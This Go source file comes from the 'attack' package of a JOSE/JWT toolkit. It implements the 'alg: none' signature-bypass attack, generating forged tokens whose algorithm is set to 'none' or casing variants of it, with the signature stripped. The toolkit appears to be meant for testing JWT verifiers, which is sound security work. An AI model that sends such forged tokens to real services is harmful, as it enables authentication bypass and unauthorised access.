// Copyright (c) 2025 Jeremy Hahn
// Copyright (c) 2025 Automate The Things, LLC
//
// This file is part of go-josekit.
//
// go-josekit is dual-licensed:
//
// 1. GNU Affero General Public License v3.0 (AGPL-3.0)
//    See LICENSE file or visit https://www.gnu.org/licenses/agpl-3.0.html
//
// 2. Commercial License
//    Contact licensing@automatethethings.com for commercial licensing options.

package attack

import (
	"fmt"
	"strings"
	"unicode"

	"github.com/jeremyhahn/go-josekit/pkg/jose"
	"github.com/jeremyhahn/go-josekit/pkg/jwa"
)

// None-variant selection modes.
const (
	NoneModeCanonical = "canonical"
	NoneModeAll       = "all"
	NoneModeCustom    = "custom"
)

// CanonicalNoneVariants are the casings tried by default.
var CanonicalNoneVariants = []string{"none", "None", "NONE", "nOnE"}

// None sets "alg" to variant and strips the signature. An empty variant
// means "none"; any other value must be a casing of "none".
func None(obj jose.Object, variant string) (*Result, error) {
	jws, err := asJWS(obj)
	if err != nil {
		return nil, err
	}
	if variant == "" {
		variant = jwa.None
	}
	if !jwa.IsNone(variant) {
		return nil, fmt.Errorf("%w: %q is not a none variant", jwa.ErrUnsupportedAlgorithm, variant)
	}
	return &Result{Object: jws.WithAlgorithm(variant).WithSignature(nil)}, nil
}

// NoneVariants applies None once per variant, in order.
func NoneVariants(obj jose.Object, variants []string) ([]*Result, error) {
	results := make([]*Result, 0, len(variants))
	for _, v := range variants {
		res, err := None(obj, v)
		if err != nil {
			return nil, err
		}
		results = append(results, res)
	}
	return results, nil
}

// MaxCaseLetters bounds the letters AllCaseVariants permutes.
const MaxCaseLetters = 12

// AllCaseVariants returns every upper/lower casing of word, starting with
// the all-lowercase form. "none" yields 16 variants. Only the first
// MaxCaseLetters letters are varied; the rest stay lowercase.
func AllCaseVariants(word string) []string {
	letters := []rune(strings.ToLower(word))
	var positions []int
	for i, r := range letters {
		if unicode.ToUpper(r) != r && len(positions) < MaxCaseLetters {
			positions = append(positions, i)
		}
	}

	out := make([]string, 0, 1<<len(positions))
	buf := make([]rune, len(letters))
	for mask := 0; mask < 1<<len(positions); mask++ {
		copy(buf, letters)
		for bit, pos := range positions {
			if mask&(1<<bit) != 0 {
				buf[pos] = unicode.ToUpper(buf[pos])
			}
		}
		out = append(out, string(buf))
	}
	return out
}

// VariantsForMode resolves a none-variant mode to the list of "alg" values
// to try. custom is used only in NoneModeCustom and must not be empty there.
func VariantsForMode(mode string, custom []string) ([]string, error) {
	switch mode {
	case "", NoneModeCanonical:
		return append([]string(nil), CanonicalNoneVariants...), nil
	case NoneModeAll:
		return AllCaseVariants(jwa.None), nil
	case NoneModeCustom:
		if len(custom) == 0 {
			return nil, fmt.Errorf("attack: custom none mode needs at least one variant")
		}
		for _, v := range custom {
			if !jwa.IsNone(v) {
				return nil, fmt.Errorf("%w: %q is not a none variant", jwa.ErrUnsupportedAlgorithm, v)
			}
		}
		return append([]string(nil), custom...), nil
	}
	return nil, fmt.Errorf("attack: unknown none mode %q", mode)
}
